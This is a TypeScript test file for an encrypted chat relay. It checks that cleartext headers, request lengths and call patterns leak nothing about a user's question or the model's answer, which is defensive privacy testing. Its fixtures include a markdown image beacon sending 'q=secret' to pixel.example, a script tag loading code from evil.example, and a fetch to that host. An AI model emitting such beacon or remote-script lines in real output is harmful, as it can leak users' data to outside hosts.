import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeRequestHeader, encodeRequestHeader } from '../../../../crypto/protocol/messages/request-header.ts';
import { closeReasons } from '../../../../crypto/protocol/messages/live-record.ts';
import type { TurnStart } from '../../../../crypto/protocol/messages/turn-messages.ts';
import { equalBytes, fromBase64Url, toHex } from '../../../../crypto/protocol/bytes/bytes.ts';
import { DeviceLab } from '../../../parts/users/vaults/device-lab.ts';
import { changeRecords, pathOf } from '../../../parts/relay/tamper.ts';
import type { UpstreamScript } from '../../../parts/worker/upstream/upstream.ts';

let lab: DeviceLab;
beforeAll(async () => {
  lab = await DeviceLab.open();
});
afterAll(() => lab[Symbol.asyncDispose]());

const contents: Record<string, UpstreamScript & { readonly question: string }> = {
  'plain words': { question: 'Hello?', tokens: ['Hello.'] },
  'images and links': {
    question: '![q](https://pixel.example/q.png)',
    tokens: [
      '![leak](https://pixel.example/?q=secret) ',
      '[link](https://evil.example/) ',
      '<img src="https://pixel.example/x">',
    ],
  },
  'code, mathematics and diagrams': {
    question: '```js\nfetch("https://evil.example")\n```',
    tokens: [
      '```html\n<script src="https://evil.example/x.js"></script>\n```\n',
      '$$\\int$$\n',
      '```mermaid\ngraph TD\n```',
    ],
  },
  'an empty answer': { question: 'Say nothing.', tokens: [] },
  reasoning: {
    question: 'Think.',
    tokens: ['So.'],
    reasoning: Array.from({ length: 15 }, () => 'thinking about it '),
  },
  'a refusal': { question: 'Refused?', failWith: 401 },
  'a question that is too long for the model': { question: 'Too long?', contextCharacters: 3 },
  'an answer that broke off': { question: 'To the end?', tokens: ['Half of '], ending: 'cut' },
};

/** The relay can count this: which calls, and how long the bodies of those are that write, in order. */
type Observed = { readonly kinds: readonly string[]; readonly writes: readonly string[] };

/** Asks one after another, since they share a model, and waits for all to become compact at the same time. */
async function observe(...asked: (typeof contents)[string][]): Promise<Observed[]> {
  const waiting: (() => Promise<Observed>)[] = [];
  for (const { question, ...script } of asked) {
    lab.upstream.answerWith(script);
    // In haste a busy machine makes the relay seem silent, and what it has is asked for once more.
    const { profile, tab } = await lab.openChat(lab.profile({ haste: 0.2 }));
    await tab.until(() => tab.connection === 'connected');
    const from = profile.requests.length;
    const { turnId } = await tab.ask(question);
    await tab.ended(turnId);
    waiting.push(async () => {
      await tab.until(() => profile.requests.some(({ path, method }) => method === 'POST' && path === '/v1/items'));
      return count(profile.requests.slice(from));
    });
  }
  return Promise.all(waiting.map((wait) => wait()));
}

function count(seen: readonly { readonly method: string; readonly path: string; readonly body: string }[]): Observed {
  const patternOf = (path: string) => path.replace(/\?.*/, '').replaceAll(/[A-Za-z0-9_-]{22}/g, '{id}');
  // A sign of life is asked for wherever a busy machine lets the relay keep silent.
  const asked = seen.filter(({ path }) => path !== '/livez');
  return {
    kinds: [...new Set(asked.map(({ method, path }) => `${method} ${patternOf(path)}`))].toSorted(),
    writes: seen.flatMap(({ method, path, body }) => (method === 'POST' ? [`${patternOf(path)} ${body.length}`] : [])),
  };
}

/** Gives what stands in clear beside the seal of a question, without ids and times; and the sealed bytes. */
async function sendAndSee(question: string) {
  const { profile, tab } = await lab.openChat();
  await tab.until(() => tab.connection === 'connected');
  let headers: string[] = [];
  profile.intercept = async (request, next) => {
    if (request.method === 'POST' && pathOf(request) === '/v1/turns') headers = [...request.headers.keys()].toSorted();
    return next(request);
  };
  await tab.ended((await tab.ask(question)).turnId);
  const { batch, request, ...rest } = JSON.parse(profile.sentTurns[0]?.body ?? '') as TurnStart;
  if (batch === null) throw new Error('A question comes with its items.');
  const header = decodeRequestHeader(fromBase64Url(request.header));
  return {
    clear: {
      headers,
      header: toHex(encodeRequestHeader({ ...header, turnId: new Uint8Array(16), expiresAtMs: 0 })),
      headerLength: request.header.length,
      fields: [Object.keys(rest), Object.keys(batch), Object.keys(request), Object.keys(request.recipients[0] ?? {})],
      // Their order is that of their ids.
      items: batch.items
        .map(({ version, expiresAt, flags, body }) => [version, expiresAt, flags, body.length].join(' '))
        .toSorted(),
      lengths: [request.body.length, ...request.recipients.map(({ wrappedKey }) => wrappedKey.length)],
    },
    sealed: [request.body, ...batch.items.map(({ body }) => body)].map((body) => fromBase64Url(body)),
  };
}

describe('M43 what stands in clear beside a sealed question', () => {
  const beginning = 'Please translate the following letter to my landlord: ';

  it('tells neither a common beginning nor a length within its class', async () => {
    const one = await sendAndSee(beginning);
    const two = await sendAndSee(`${beginning}${'I am writing to you about the roof. '.repeat(10)}`);
    expect(two.clear).toEqual(one.clear);
    expect(one.clear.items.length).toBeGreaterThan(1);
    // A sealed header of 6 bytes stands before each item; behind it nothing is alike.
    for (const [place, bytes] of two.sealed.entries()) {
      const other = one.sealed[place] ?? new Uint8Array(0);
      for (let at = 6; at + 16 <= bytes.length; at += 16) {
        expect(equalBytes(bytes.subarray(at, at + 16), other.subarray(at, at + 16))).toBe(false);
      }
    }
  });

  it('is no shorter for words that would compress well', async () => {
    const same = await sendAndSee('x'.repeat(3_000));
    const random = Array.from({ length: 3_000 }, () => String.fromCodePoint(33 + Math.floor(Math.random() * 90)));
    // JSON escapes none of these characters.
    const mixed = await sendAndSee(random.join('').replaceAll(/["\\]/g, '_'));
    expect(mixed.clear).toEqual(same.clear);
    expect(mixed.clear.lengths).not.toEqual((await sendAndSee('x')).clear.lengths);
  });
});

describe('M43 what a client asks for', () => {
  it('is the same whatever was written and answered, down to the lengths of what it sends', async () => {
    const [first, ...others] = await observe(...Object.values(contents));
    expect(first?.writes).toHaveLength(2);
    expect(first?.writes[0]).toMatch(/^\/v1\/turns \d+$/);
    expect(first?.writes[1]).toMatch(/^\/v1\/items \d+$/);
    for (const [place, other] of others.entries()) expect({ place, ...other }).toEqual({ place, ...first });
  });

  it('shows a longer question only as another size class', async () => {
    const [short, longer, long] = await observe(
      { question: 'x', tokens: ['y'] },
      { question: 'x'.repeat(600), tokens: ['y'] },
      { question: 'x'.repeat(3_000), tokens: ['y'] },
    );
    expect(longer?.writes).toEqual(short?.writes);
    expect(long?.writes[0]).not.toBe(short?.writes[0]);
  });
});

describe('M43 what a client writes for an answer that the relay ends early and calls lost', () => {
  it.each([
    ['had ended', 24],
    ['had not ended', 2],
  ])('is nothing, here where its words %s: the next answer alone is made compact', async (_name, last) => {
    let early = '';
    const profile = lab.profile({ haste: 0.2 });
    profile.intercept = changeRecords((record) => {
      const turnId = Buffer.from(record.turnId).toString('base64url');
      if (early === '' && record.kind === 'header') early = turnId;
      if (turnId !== early || record.number < last || record.kind === 'header') return [record];
      if (record.kind !== 'frame' || record.number > last) return [];
      return [record, { ...record, kind: 'closed', number: last + 1, body: Uint8Array.of(closeReasons.lost) }];
    });
    lab.upstream.answerWith({ tokens: Array.from({ length: 5 }, () => 'word '), delayMs: 100 });
    const { tab } = await lab.openChat(profile);
    const first = await tab.ask('First?');
    const { state } = await tab.ended(first.turnId);
    expect(state).toMatchObject({ kind: 'ended', outcome: last === 24 ? 'complete' : 'cut-off' });
    // Its answer takes longer than the first would have waited to be made compact.
    const second = await tab.ask('Second?', first.conversationId);
    await tab.ended(second.turnId);
    const written = () => profile.requests.filter(({ path, method }) => method === 'POST' && path === '/v1/items');
    await tab.until(() => written().length > 0);
    expect(written()).toHaveLength(1);
    expect(written()[0]?.body).toContain(second.turnId);
    expect(written()[0]?.body).not.toContain(first.turnId);
  });
});
